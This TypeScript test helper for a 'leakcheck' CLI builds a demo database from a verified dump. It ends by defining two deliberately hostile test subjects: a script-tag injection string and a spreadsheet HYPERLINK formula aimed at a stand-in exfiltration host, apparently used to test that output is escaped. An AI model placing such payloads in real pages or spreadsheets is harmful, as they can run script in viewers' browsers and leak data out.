import { join } from 'node:path';
import { openStore } from '../../src/store/open-store.ts';
import type { Db } from '../../src/store/open-store.ts';
import { DEMO_DUMP, DEMO_KEYS, runCli, tempDir } from '../helpers/cli.ts';

/** Verifies the demo dump offline into a fresh database, as a user would, and opens it. */
export function demoDatabase(): { db: Db; path: string; dir: string; cleanup: () => void } {
  const dir = tempDir('leakcheck-html-');
  const path = join(dir.path, 'demo.db');
  const run = runCli(['verify', DEMO_DUMP, '--keys', DEMO_KEYS, '--offline', '--db', path, '--quiet']);
  if (run.status !== 0) throw new Error(`leakcheck verify failed (${run.status}): ${run.stderr}`);
  const db = openStore(path, { readonly: true });
  return {
    db,
    path,
    dir: dir.path,
    cleanup: () => {
      db.close();
      dir.cleanup();
    },
  };
}

/** The hostile subjects the demo dump carries on purpose. */
export const SCRIPT_SUBJECT = 'Contact form: <script>alert(1)</script>';
export const FORMULA_SUBJECT_START = '=HYPERLINK("http://exfil.example/';
